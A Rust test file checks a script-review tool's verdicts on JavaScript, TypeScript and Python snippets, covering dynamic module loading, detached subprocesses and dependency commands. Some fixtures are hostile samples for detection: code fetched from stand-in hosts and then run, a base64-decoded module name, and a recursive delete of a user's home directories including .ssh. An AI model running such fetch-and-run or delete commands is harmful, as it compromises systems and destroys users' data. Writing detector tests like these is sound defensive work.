//! Session 48's precision rows for Python, JavaScript and TypeScript scripts (issue 17).
//! A module loaded by a path whose file name is fixed in the script (`path.join(dir, 'dist',
//! 'codec.js')`) is a file, not a hidden module name, when only its directory is computed; a
//! child started in a session of its own that the script waits for or stops is a process of
//! the run, not one meant to outlive it. Each clean row has its twins: a file name computed
//! too, decoded, a download written there and loaded, a child never waited for, or another
//! child waited for instead, stay flagged.

use terraphim_script_review::{Language, Verdict};

use crate::rows;

use Language::{JavaScript as Js, Python as Py, TypeScript as Ts};
use Verdict::{Clean, Dangerous, Suspicious};

/// `require(path.join(dir, 'lib', <name>))` in a loader whose directory comes from the command
/// line: with a fixed file name it is that file; with a computed or decoded name it stays a
/// module hidden by its name.
#[test]
fn a_module_file_of_a_fixed_name_in_a_computed_directory() {
    let loader = |name: &str| {
        format!(
            "const path = require('path');\n\nfunction loadCodec(dir) {{\n  return require(path.join(dir, 'lib', {name}));\n}}\n\nconst codec = loadCodec(process.argv[2] || '.');\nconsole.log(codec.version);\n"
        )
    };
    let ts_suite = |file: &str| {
        format!(
            "import * as path from 'node:path';\n\nasync function runSuite(tree: string): Promise<number> {{\n  const mod = (await import(path.join(tree, 'dist', {file}))) as {{ run: () => number }};\n  return mod.run();\n}}\n\nfor (const tree of process.argv.slice(2)) {{\n  runSuite(tree).then((n) => console.log(`${{tree}}: ${{n}} ms`));\n}}\n"
        )
    };
    rows(&[
        (Js, loader("'codec.js'"), Clean, ""),
        (Js, loader("'codec.cjs'"), Clean, ""),
        (Ts, ts_suite("'bench.mjs'"), Clean, ""),
        // The file's name computed too: any module at all.
        (
            Js,
            loader("process.argv[3]"),
            Suspicious,
            "obfuscated-execution",
        ),
        (
            Js,
            loader("`${process.env.CODEC}.js`"),
            Suspicious,
            "obfuscated-execution",
        ),
        (
            Ts,
            ts_suite("process.argv[1]"),
            Suspicious,
            "obfuscated-execution",
        ),
        // A name decoded at run time.
        (
            Js,
            loader("Buffer.from(process.argv[3], 'base64').toString()"),
            Dangerous,
            "obfuscated-execution",
        ),
        // No extension: resolved through a package's `main`, not a fixed file.
        (Js, loader("'codec'"), Suspicious, "obfuscated-execution"),
    ]);
}

/// A download written under a fixed name into a directory known only at run time, then
/// loaded from there: the file run holds the download, whatever the loader's shape.
#[test]
fn a_download_written_to_a_fixed_name_and_loaded_stays_dangerous() {
    let code = "const fs = require('fs');\nconst path = require('path');\n\nasync function main(dir) {\n  const res = await fetch('https://cdn.widgets.example.net/boot.mjs');\n  fs.writeFileSync(path.join(dir, 'boot.mjs'), await res.text());\n  await import(path.join(dir, 'boot.mjs'));\n}\n\nmain(process.argv[2]);\n";
    let report = crate::verdict(Js, code, Dangerous);
    assert!(
        report
            .findings
            .iter()
            .any(|f| f.severity == Dangerous && f.category.as_str() == "remote-code"),
        "{report:#?}"
    );
}

/// `Popen(..., start_new_session=True)` for a child the script waits for or stops: its own
/// session only keeps Ctrl-C for the script. Never waited for, or another child waited for
/// (a name that only ends like it), it stays a process meant to outlive the run.
#[test]
fn a_child_in_its_own_session_that_the_script_waits_for() {
    let runner = |after: &str| {
        format!(
            "import subprocess\nimport sys\n\nhelper = subprocess.Popen([\"sleep\", \"1\"])\nproc = subprocess.Popen([\"cargo\", \"test\", \"--quiet\"], start_new_session=True)\nprint(\"started\", proc.pid)\n{after}\n"
        )
    };
    rows(&[
        (Py, runner("sys.exit(proc.wait())"), Clean, ""),
        (
            Py,
            runner(
                "try:\n    code = proc.wait(timeout=600)\nexcept subprocess.TimeoutExpired:\n    proc.kill()\n    code = proc.wait()\nsys.exit(code)",
            ),
            Clean,
            "",
        ),
        (Py, runner("out, _ = proc.communicate()"), Clean, ""),
        (
            Py,
            runner(
                "def stop(signum, frame):\n    proc.send_signal(signum)\n\nimport signal\nsignal.signal(signal.SIGINT, stop)",
            ),
            Clean,
            "",
        ),
        // Never waited for or stopped.
        (Py, runner("sys.exit(0)"), Suspicious, "escape"),
        // Another child waited for.
        (Py, runner("helper.wait()"), Suspicious, "escape"),
        // A name that only ends like the child's.
        (
            Py,
            runner("subproc = helper\nsubproc.wait()"),
            Suspicious,
            "escape",
        ),
    ]);
}

/// `path.join(ROOT, 'node_modules', '.bin', 'jest')` with the repository's top level known only
/// at run time: the project's installed dependency's command, what `npx jest` runs. A program
/// of a name nobody models in another directory of the project, or a download written into the
/// dependencies' directory and run from there, stays flagged.
#[test]
fn a_dependency_command_in_a_computed_project_directory() {
    let ts = |dir: &str| {
        format!(
            "import {{ execFileSync, spawnSync }} from 'node:child_process';\nimport * as fs from 'node:fs';\nimport * as path from 'node:path';\n\nconst ROOT = fs.realpathSync(execFileSync('git', ['rev-parse', '--show-toplevel'], {{ encoding: 'utf8' }}).trim());\nconst tool = path.join(ROOT, {dir}, 'jest');\nconst res = spawnSync(tool, ['--showConfig'], {{ cwd: ROOT, encoding: 'utf8' }});\nconsole.log(res.stdout);\n"
        )
    };
    let py = |dir: &str| {
        format!(
            "import os\nimport subprocess\nfrom pathlib import Path\n\nROOT = Path(os.environ[\"PROJECT_DIR\"])\nsubprocess.run([str(ROOT / {dir} / \"pytest\"), \"-q\"], check=True)\n"
        )
    };
    rows(&[
        (Ts, ts("'node_modules', '.bin'"), Clean, ""),
        (Py, py("\".venv\" / \"bin\""), Clean, ""),
        (Ts, ts("'tools'"), Suspicious, "remote-code"),
        (Ts, ts("'node_modules', 'jest'"), Suspicious, "remote-code"),
        (Py, py("\"scripts\""), Suspicious, "remote-code"),
    ]);
    let download = "import { execFileSync, spawnSync } from 'node:child_process';\nimport * as fs from 'node:fs';\nimport * as path from 'node:path';\n\nconst ROOT = fs.realpathSync(execFileSync('git', ['rev-parse', '--show-toplevel'], { encoding: 'utf8' }).trim());\nconst tool = path.join(ROOT, 'node_modules', '.bin', 'jest');\n\nasync function main(): Promise<void> {\n  const res = await fetch('https://tools.widgets.example.net/jest');\n  fs.writeFileSync(tool, Buffer.from(await res.arrayBuffer()), { mode: 0o755 });\n  spawnSync(tool, ['--ci'], { stdio: 'inherit' });\n}\n\nmain();\n";
    let report = crate::verdict(Ts, download, Dangerous);
    assert!(
        report
            .findings
            .iter()
            .any(|f| f.severity == Dangerous && f.category.as_str() == "remote-code"),
        "{report:#?}"
    );
}

/// `subprocess.run([str(a) for a in argv])` in a helper, given an argv grown option by option
/// past the length loops are unrolled to: each element only turned into its text, so the
/// program is the list's first element. A first element from the command line stays a
/// command name built at run time, and a long list that deletes the user's directories is
/// seen as the delete it is.
#[test]
fn a_long_argv_keeps_its_elements_through_a_text_conversion() {
    let runner = |first: &str, targets: &str| {
        format!(
            "import subprocess\nimport sys\n\n\ndef run(argv, **kw):\n    print(\"$\", \" \".join(str(a) for a in argv))\n    return subprocess.run([str(a) for a in argv], check=True, **kw)\n\n\nargv = [{first}, \"--warmup\", \"2\", \"--runs\", \"10\", \"--shell=none\", \"--export-json\", \"build/bench.json\"]\nfor name in (\"small\", \"large\"):\n    argv += [\"--command-name\", name, {targets}]\nrun(argv)\n"
        )
    };
    rows(&[
        (Py, runner("\"hyperfine\"", "f\"build/cli compress tests/{name}.bin\""), Clean, ""),
        (Py, runner("sys.argv[1]", "f\"build/cli compress tests/{name}.bin\""), Suspicious, "remote-code"),
        // The same helper given a long delete of the user's own directories.
        (
            Py,
            "import subprocess\n\n\ndef run(argv):\n    return subprocess.run([str(a) for a in argv], check=True)\n\n\nargv = [\"rm\", \"-r\", \"-f\", \"--one-file-system\", \"--\", \"/home/dev/.config\", \"/home/dev/.local\", \"/home/dev/.cache\", \"/home/dev/.ssh\", \"/home/dev/Documents\"]\nrun(argv)\n".to_owned(),
            Dangerous,
            "destructive",
        ),
    ]);
}
